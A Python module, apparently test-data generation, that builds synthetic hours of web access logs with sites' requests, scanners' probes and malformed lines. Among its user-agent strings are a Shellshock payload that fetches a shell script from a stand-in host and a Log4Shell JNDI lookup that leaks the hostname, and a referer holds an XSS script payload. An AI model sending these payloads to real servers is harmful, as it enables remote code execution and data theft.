"""Requests as servers on the internet see them, an hour at a time, as columns: the same each time.

Most are those of five sites, with paths that hold what no path in the lake may; one in twenty-five is a scanner's;
a few in a thousand are no HTTP at all. field_targets.py says what they ask for, and what is right of it.
"""

from collections.abc import Sequence
from dataclasses import dataclass
from datetime import datetime
from itertools import product

import numpy as np
import pyarrow as pa
import pyarrow.compute as pc
from field_targets import ODDITIES, POOLS, TARGETS
from traffic import HOUR_SECONDS, WORDS, Integers, user_agents

INVALID = "(invalid)"
NO_NAME = "(none)"

# (host and port as logged, application, share of the sites' requests, share of the scanners')
HOSTS = (
    ("shop.example.net:443", "shop.example.net", 0.38, 0.15),
    ("www.example.net:443", "www.example.net", 0.20, 0.25),
    ("media.example.net:443", "media.example.net", 0.22, 0.02),
    ("api.example.net:8443", "api.example.net", 0.10, 0.08),
    ("legacy.example.net:80", "legacy.example.net", 0.04, 0.05),
    ("blog.example.net:443", "blog.example.net", 0.03, 0.05),
    ("Shop.Example.NET:443", "shop.example.net", 0.02, 0.02),
    ("SHOP.EXAMPLE.NET:80", "shop.example.net", 0.005, 0.02),
    ("localhost:80", "localhost", 0.004, 0.01),
    ("192.0.2.10:443", INVALID, 0.001, 0.28),
    ("[2001:db8::10]:443", INVALID, 0, 0.04),
    ("_:80", INVALID, 0, 0.03),
)
CRLF_HOST = 4  # a proxy of its own writes the lines of this one

METHODS = ("GET", "POST", "HEAD", "PUT", "DELETE", "OPTIONS", "PATCH")
METHOD_SHARES = (0.885, 0.075, 0.015, 0.008, 0.004, 0.012, 0.001)
PROTOCOLS = (" HTTP/1.1", " HTTP/2.0", " HTTP/1.0", "")
PROTOCOL_SHARES = (0.42, 0.565, 0.015)
NO_PROTOCOL = 3

STATUSES = (200, 206, 301, 302, 304, 400, 401, 403, 404, 405, 408, 429, 499, 500, 501, 502, 503, 504)
SITE_STATUS_SHARES = (
    *(0.853, 0.008, 0.012, 0.018, 0.062, 0.001, 0.006, 0.003, 0.020, 0.001),
    *(0.001, 0.002, 0.004, 0.004, 0, 0.002, 0.002, 0.001),
)
SCANNER_STATUS_SHARES = (0.06, 0, 0.08, 0.02, 0, 0.04, 0.01, 0.10, 0.65, 0.01, 0, 0.01, 0, 0.015, 0, 0, 0.005, 0)
ODD_STATUS_SHARES = (0.05, 0, 0.02, 0, 0, 0.71, 0, 0.02, 0.05, 0.10, 0.04, 0, 0, 0, 0.01, 0, 0, 0)
EMPTY_STATUSES = (204, 304, 408)

CLIENTS = 60_000
BROWSERS = 162  # of traffic.py's user agents; programs and robots follow
ACTIVE_CLIENTS = 300  # at a time
LINES_A_CLIENT = 25  # until another one takes its place
IPV6_SHARE = 0.18
USER_SHARE = 0.003
REFERERS = 3_000
DASH_SHARE = 0.3  # of responses without a body, that have `-` for their size

SITE, SCANNER, ODD = range(3)
KIND_SHARES = (0.956, 0.040, 0.004)
SITE_POOLS = ("page", "asset", "image", "call", "few_dirty", "many_dirty", "order", "account", "own", "long")
SITE_POOL_SHARES = (0.27, 0.30, 0.20, 0.174, 0.02, 0.012, 0.015, 0.006, 0.0025, 0.0005)
SCANNER_POOLS = ("probe", "guess")
SCANNER_POOL_SHARES = (0.7, 0.3)
QUERY_SHARES = {"none": 0.70, "page": 0.14, "campaign": 0.06, "session": 0.05, "encoded": 0.048, "long": 0.002}


FIRSTS = dict(zip(POOLS, np.cumsum([0, *map(len, POOLS.values())])[:-1].tolist(), strict=True))
FIRST_ODD = len(TARGETS) - len(ODDITIES)
SKEW = {"page": 3, "asset": 2, "image": 2, "call": 4, "few_dirty": 2}
BEFORES = list(dict.fromkeys([f"{each} " for each in METHODS] + [odd.before for odd in ODDITIES]))
ALL_PROTOCOLS = list(dict.fromkeys([*PROTOCOLS, *(odd.protocol for odd in ODDITIES)]))
METHOD_NAMES = list(dict.fromkeys([*METHODS, *(odd.method or NO_NAME for odd in ODDITIES)]))
APPLICATIONS = list(dict.fromkeys(application for _, application, _, _ in HOSTS))


def agents() -> list[str]:
    r"""Return user agents as they are logged; among the last ones are scanners' and those with quotes."""
    browsers_and_bots = user_agents()
    return [
        *(f"ShopApp/6.{n} (Android 15; Pixel 9)" for n in range(8)),
        *browsers_and_bots[:BROWSERS],
        *(
            f"Mozilla/5.0 (iPhone; CPU iPhone OS 18_{n} like Mac OS X) AppleWebKit/605.1 (KHTML, like Gecko) "
            f"Mobile/22{chr(65 + n)}100 [FBAN/FBIOS;FBAV/5{n}.0.0.43;FBBV/7{n}113;FBDV/iPhone17;FBLC/de_DE]"
            for n in range(20)
        ),
        *browsers_and_bots[BROWSERS:],
        '() { :; }; /bin/bash -c \\"curl http://198.51.100.9/x.sh\\"',
        "sqlmap/1.8.2#stable (https://sqlmap.org)",
        "Mozilla/5.0 zgrab/0.x",
        "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
        "${jndi:ldap://198.51.100.7:1389/${env:HOSTNAME}}",
        "\\x22Mozilla/5.0\\x22",
        "Expanse, a Palo Alto Networks company, searches across the global IPv4 space multiple times per day",
        "-",
        "",
        "a\\\\",
    ]


def referers(random: np.random.Generator) -> list[str]:
    """Return referers as they are logged: mostly pages of our own."""
    pages = [POOLS["page"][int(n)].target for n in len(POOLS["page"]) * random.random(REFERERS) ** 2]
    own = [f"https://{('shop', 'www')[n % 2]}.example.net{page}" for n, page in enumerate(pages)]
    found = [
        ("-", "https://www.google.com/", page, "-", page, "-", f"{page}?page={n % 9}", "-")[n % 8]
        for n, page in enumerate(own)
    ]
    found[-3:] = [
        'https://example.org/?q=\\"blue shoes\\"',
        '\\"><script>alert(1)</script>',
        "https://www.example.net/caf\\xC3\\xA9?a=%5B1%5D",
    ]
    return found


def clients(random: np.random.Generator) -> list[str]:
    """Return what the combined formats log of each client before the time."""
    numbers = random.integers(0, 1 << 16, (CLIENTS, 4)).tolist()
    kinds = random.random(CLIENTS).tolist()

    def address(kind: float, a: int, b: int, c: int, d: int) -> str:
        if kind < IPV6_SHARE / 2:
            return f"2001:db8:{a:x}:{b:x}:{c:x}:{d:x}:{a ^ c:x}:{b ^ d:x}"
        return f"2001:db8:{a:x}:{b:x}::{c & 15:x}" if kind < IPV6_SHARE else f"198.18.{a & 255}.{b & 255}"

    return [
        f"{address(kind, *parts)} - {WORDS[parts[2] % len(WORDS)] if kind > 1 - USER_SHARE else '-'} ["
        for parts, kind in zip(numbers, kinds, strict=True)
    ]


def queries() -> dict[str, list[str]]:
    """Return queries by their kind, as far as they are not made for each request."""
    pairs = list(product(WORDS, WORDS[::4]))
    return {
        "none": [""],
        "page": [f"?page={n % 12}&sort={a}" for n, (a, _) in enumerate(pairs)],
        "campaign": [f"?utm_source={a}&utm_medium=email&utm_campaign={b}-2026-05" for a, b in pairs],
        "encoded": [
            f"?q={a}%20{b}&filter%5Bcolour%5D={b}&range=%5B{n}%3B{n + 9}%5D" for n, (a, b) in enumerate(pairs)
        ],
    }


@dataclass(frozen=True)
class FieldHour:
    """The requests of one hour as columns; what is a choice from a pool is its index there.

    Attributes:
        own_path: Where the path stands for no other request, that path; else NULL.
    """

    start: datetime
    second: Integers
    host: Integers
    client: Integers
    before: Integers
    path_index: Integers
    target: pa.Array
    own_path: pa.Array
    query: pa.Array
    protocol: Integers
    status: Integers
    response_bytes: Integers
    has_size: np.ndarray
    referer: Integers
    agent: Integers
    milliseconds: Integers

    @property
    def application(self) -> Integers:
        """Index in APPLICATIONS."""
        return _APPLICATION_OF_HOST[self.host]

    @property
    def method(self) -> Integers:
        """Index in METHOD_NAMES."""
        odd = self.path_index >= FIRST_ODD
        return np.where(odd, _METHOD_OF_ODD[np.where(odd, self.path_index - FIRST_ODD, 0)], self.before)

    @classmethod
    def make(cls, random: np.random.Generator, start: datetime, lines: int) -> "FieldHour":
        """Make up an hour of so many requests."""
        return _Maker(random, lines).hour(start)


class _Maker:
    """Draws the columns of some requests."""

    def __init__(self, random: np.random.Generator, lines: int) -> None:
        self._random = random
        self._lines = lines

    def choose(self, shares: Sequence[float]) -> Integers:
        """Return an index for each request; shares sum up to 1."""
        cumulated = np.cumsum(shares)
        return np.searchsorted(cumulated[:-1] / cumulated[-1], self._random.random(self._lines), side="right")

    def few_often(self, count: int, skew: int) -> Integers:
        """Return a number below the count for each request, low ones more often."""
        return (count * self._random.random(self._lines) ** skew).astype(np.int64)

    def hexadecimal(self, count: int, groups: int) -> list[pa.Array]:
        """Return so many columns of four hexadecimal digits each."""
        return [_HEXADECIMAL.take(pa.array(self._random.integers(0, 1 << 16, count))) for _ in range(groups)]

    def hour(self, start: datetime) -> FieldHour:
        """Make up an hour."""
        lines, random = self._lines, self._random
        kind = self.choose(KIND_SHARES)
        path_index, site_pool = self._targets(kind)
        target, own_path = self._texts(path_index, site_pool)
        odd = kind == ODD
        status = self.choose(SITE_STATUS_SHARES)
        for each, shares in ((SCANNER, SCANNER_STATUS_SHARES), (ODD, ODD_STATUS_SHARES)):
            status = np.where(kind == each, self.choose(shares), status)
        host = np.where(
            kind == SITE, self.choose([each[2] for each in HOSTS]), self.choose([each[3] for each in HOSTS])
        )
        sizes = np.minimum(np.exp(random.normal(8.3, 1.7, lines)), 80e6).astype(np.int64)
        # what isn't a file often has the size it had before
        sizes = np.where(random.random(lines) < 0.6, 162 + 512 * (path_index % 997) + status, sizes)
        empty = np.isin(np.array(STATUSES)[status], EMPTY_STATUSES)
        dash = empty & (random.random(lines) < DASH_SHARE)
        sizes = np.where(empty, np.where(dash, 0, 189), sizes)
        client = (
            random.integers(0, CLIENTS) + np.arange(lines) // LINES_A_CLIENT + self.few_often(ACTIVE_CLIENTS, 2)
        ) % CLIENTS
        odd_index = np.where(odd, path_index - FIRST_ODD, 0)
        before = np.where(odd, _BEFORE_OF_ODD[odd_index], self.choose(METHOD_SHARES))
        protocol = np.where(odd, _PROTOCOL_OF_ODD[odd_index], self.choose(PROTOCOL_SHARES))
        late = np.where(random.random(lines) < 0.1, random.integers(0, 4, lines), 0)
        agents_of = np.where(kind == SITE, _AGENT_OF_CLIENT[client], _SITE_AGENTS + client % _OTHER_AGENTS)
        return FieldHour(
            start=start,
            second=np.maximum(np.arange(lines) * HOUR_SECONDS // max(lines, 1) - late, 0),
            host=host,
            client=client,
            before=before,
            path_index=path_index,
            target=target,
            own_path=own_path,
            query=self._queries(kind),
            protocol=protocol,
            status=status,
            response_bytes=sizes,
            has_size=~dash,
            referer=np.where(kind == SITE, (client * 7 + self.few_often(8, 2)) % REFERERS, 0),
            agent=agents_of,
            milliseconds=np.minimum(random.exponential(80, lines), 9_999).astype(np.int64),
        )

    def _targets(self, kind: Integers) -> tuple[Integers, Integers]:
        """Return each request's index in TARGETS, and which of SITE_POOLS it is from."""
        site_pool = np.where(kind == SITE, self.choose(SITE_POOL_SHARES), -1)
        scanner_pool = np.where(kind == SCANNER, self.choose(SCANNER_POOL_SHARES), -1)
        found = FIRST_ODD + self.choose([odd.weight for odd in ODDITIES])
        for names, pools in ((SITE_POOLS, site_pool), (SCANNER_POOLS, scanner_pool)):
            for n, name in enumerate(names):
                drawn = FIRSTS[name] + self.few_often(len(POOLS[name]), SKEW.get(name, 1))
                found = np.where(pools == n, drawn, found)
        return found, site_pool

    def _texts(self, path_index: Integers, site_pool: Integers) -> tuple[pa.Array, pa.Array]:
        """Return the targets, and those of them that no other request has."""
        target = _TARGET_TEXTS.take(pa.array(path_index))
        nothing = pa.nulls(self._lines, pa.string())

        def put(name: str, *parts: str | pa.Array, into: pa.Array) -> pa.Array:
            mask = pa.array(site_pool == SITE_POOLS.index(name))
            return pc.replace_with_mask(into, mask, pc.binary_join_element_wise(*parts, ""))

        count = {name: int((site_pool == n).sum()) for n, name in enumerate(SITE_POOLS)}
        a, b, c, d, e, f, g, h = self.hexadecimal(count["order"], 8)
        target = put("order", "/api/v2/orders/", a, b, "-", c, "-", d, "-", e, "-", f, g, h, "/items", into=target)
        numbers = pa.array(self._random.integers(10**9, 10**10, count["account"])).cast(pa.string())
        target = put("account", "/rest/V1/customers/", numbers, into=target)
        (a,) = self.hexadecimal(count["own"], 1)
        word = pa.array(WORDS).take(pa.array(self._random.integers(0, len(WORDS), count["own"])))
        own = ("/filter/", word, "%5B", a, "%5D/%7B", word, "%7D")
        return put("own", *own, into=target), put("own", *own, into=nothing)

    def _queries(self, kind: Integers) -> pa.Array:
        """Return what follows the paths of sites' requests."""
        drawn = self.choose(list(QUERY_SHARES.values()))
        index = np.zeros(self._lines, dtype=np.int64)
        first = 0
        for n, name in enumerate(QUERY_SHARES):
            if name in _QUERY_POOLS:
                index = np.where(drawn == n, first + self.few_often(len(_QUERY_POOLS[name]), 1), index)
                first += len(_QUERY_POOLS[name])
        index[kind != SITE] = 0
        query = _QUERY_TEXTS.take(pa.array(index))
        names = list(QUERY_SHARES)
        session = (drawn == names.index("session")) & (kind == SITE)
        made = pc.binary_join_element_wise("?sid=", *self.hexadecimal(int(session.sum()), 4), "")
        query = pc.replace_with_mask(query, pa.array(session), made)
        is_long = (drawn == names.index("long")) & (kind == SITE)
        count = int(is_long.sum())
        pairs = [part for digits in self.hexadecimal(count, 40) for part in (_QUERY_PART, digits)]
        return pc.replace_with_mask(query, pa.array(is_long), pc.binary_join_element_wise("?a=b", *pairs, ""))


_HEXADECIMAL = pa.array([f"{n:04x}" for n in range(1 << 16)])
_QUERY_POOLS = queries()
_QUERY_TEXTS = pa.array([query for pool in _QUERY_POOLS.values() for query in pool])
_QUERY_PART = "&filter%5Bmaterial%5D%5Bin%5D%5B%5D=velvet&s="
_TARGET_TEXTS = pa.array([asked.target for asked in TARGETS])
_APPLICATION_OF_HOST = np.array([APPLICATIONS.index(application) for _, application, _, _ in HOSTS])
_METHOD_OF_ODD = np.array([METHOD_NAMES.index(odd.method or NO_NAME) for odd in ODDITIES])
_BEFORE_OF_ODD = np.array([BEFORES.index(odd.before) for odd in ODDITIES])
_PROTOCOL_OF_ODD = np.array([ALL_PROTOCOLS.index(odd.protocol) for odd in ODDITIES])
_AGENTS = agents()
_OTHER_AGENTS = 24  # scanners' and programs', at the end
_SITE_AGENTS = len(_AGENTS) - _OTHER_AGENTS
_AGENT_OF_CLIENT = (_SITE_AGENTS * np.random.default_rng(CLIENTS).random(CLIENTS) ** 2).astype(np.int64)
